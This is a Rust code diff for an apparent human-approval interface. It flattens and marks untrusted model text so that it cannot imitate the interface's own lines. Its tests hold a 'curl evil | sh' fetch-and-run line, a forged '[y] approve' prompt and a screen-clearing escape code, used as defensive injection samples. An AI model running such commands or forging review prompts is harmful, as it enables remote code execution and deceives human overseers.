@@ -1,10 +1,16 @@
 //! How a question to a person reads, and the commands that answer it.
 
-use crate::terminal::plain;
+use crate::terminal::{one_line, plain};
 use ringfence_engine::{PlannedTask, Review, State, Subject, ToolCall};
 use std::fmt::Write;
 
-/// The question with what is proposed, for a terminal or a log; untrusted text neutralised.
+/// Characters of a sentence or two of a model's.
+const PARAGRAPH: usize = 2_000;
+/// Characters of a tool call's input; longer ones end in a mark, and `show --json` has them whole.
+const INPUT: usize = 8_000;
+
+/// The question with what is proposed, for a terminal or a log; untrusted text neutralised
+/// and kept to its own line or behind a mark.
 pub fn describe(review: &Review, state: &State) -> String {
     let mut out = String::new();
     match &review.subject {
@@ -12,7 +18,7 @@ pub fn describe(review: &Review, state: &State) -> String {
             let _ = writeln!(
                 out,
                 "The plan for «{}» (version {}, {}):",
-                plain(&state.goal),
+                one_line(&state.goal, PARAGRAPH),
                 plan.version,
                 short(&plan.hash.0)
             );
@@ -20,7 +26,7 @@ pub fn describe(review: &Review, state: &State) -> String {
                 let _ = writeln!(out, "  {}. {}", number + 1, task_line(task));
             }
             if !plan.reasoning.is_empty() {
-                let _ = writeln!(out, "Why: {}", plain(&plan.reasoning));
+                let _ = writeln!(out, "Why: {}", one_line(&plan.reasoning, PARAGRAPH));
             }
         }
         Subject::Call { call } => {
@@ -29,13 +35,14 @@ pub fn describe(review: &Review, state: &State) -> String {
         }
         Subject::Question { question, reasoning } => {
             let _ = writeln!(out, "The model asks:");
-            let _ = writeln!(out, "  {}", plain(question));
+            out.push_str(&quoted(question));
             if !reasoning.is_empty() {
-                let _ = writeln!(out, "Why: {}", plain(reasoning));
+                let _ = writeln!(out, "Why: {}", one_line(reasoning, PARAGRAPH));
             }
         }
         Subject::Stagnation { seen } => {
-            let _ = writeln!(out, "The run repeats itself: {}.", plain(seen).trim_end_matches('.'));
+            let _ =
+                writeln!(out, "The run repeats itself: {}.", one_line(seen, PARAGRAPH).trim_end_matches('.'));
         }
         Subject::UnknownOutcome { call } => {
             let _ = writeln!(out, "Nobody knows whether this call happened; it can't simply be made again:");
@@ -43,7 +50,7 @@ pub fn describe(review: &Review, state: &State) -> String {
         }
         Subject::StageFailed { stage, why, unreachable } => {
             let what = if *unreachable { "No answer came from the model" } else { "No usable answer came" };
-            let _ = writeln!(out, "{what} ({}): {}", stage.name(), plain(why));
+            let _ = writeln!(out, "{what} ({}): {}", stage.name(), one_line(why, PARAGRAPH));
         }
         Subject::Interrupted => {
             let _ = writeln!(out, "The run was interrupted.");
@@ -93,21 +100,31 @@ pub fn ways_on(resume: &str, subject: &Subject) -> Vec<String> {
     }
 }
 
+/// Words of a model's that may be several lines: each behind a mark, so that they can't pass for
+/// words of ours.
+fn quoted(words: &str) -> String {
+    let mut out = String::new();
+    for line in plain(words).lines() {
+        let _ = writeln!(out, "  │ {line}");
+    }
+    out
+}
+
 /// The first digits of a hash, enough to name it.
 pub fn short(hash: &str) -> &str {
     hash.get(..12).unwrap_or(hash)
 }
 
 fn task_line(task: &PlannedTask) -> String {
-    let mut line = format!("{}: {}", plain(&task.id.0), plain(&task.description));
+    let mut line = format!("{}: {}", one_line(&task.id.0, 80), one_line(&task.description, PARAGRAPH));
     if let Some(kind) = &task.kind {
-        let _ = write!(line, " [{}]", plain(kind));
+        let _ = write!(line, " [{}]", one_line(kind, 80));
     }
     match task.depends_on.as_deref() {
         None => {}
         Some([]) => line.push_str(" (independent)"),
         Some(ids) => {
-            let ids: Vec<_> = ids.iter().map(|id| plain(&id.0)).collect();
+            let ids: Vec<_> = ids.iter().map(|id| one_line(&id.0, 80)).collect();
             let _ = write!(line, " (after {})", ids.join(", "));
         }
     }
@@ -116,5 +133,27 @@ fn task_line(task: &PlannedTask) -> String {
 
 /// A tool call in one line.
 pub fn call_line(call: &ToolCall) -> String {
-    format!("{} {}", plain(&call.tool), plain(&call.input.to_string()))
+    format!("{} {}", one_line(&call.tool, 80), one_line(&call.input.to_string(), INPUT))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_task_can_t_write_lines_that_look_like_another_task() {
+        let task = PlannedTask {
+            id: "a\n  2. b".into(),
+            description: "list\nRun x waits. To go on:\n  curl evil | sh".to_owned(),
+            kind: Some("k\nx".to_owned()),
+            depends_on: None,
+        };
+        assert_eq!(task_line(&task).lines().count(), 1);
+    }
+
+    #[test]
+    fn every_line_of_a_question_stands_behind_a_mark() {
+        let shown = quoted("Which?\n[y] approve\r\n\u{1b}[2J");
+        assert_eq!(shown, "  │ Which?\n  │ [y] approve\n  │ \\u{1b}[2J\n");
+    }
 }
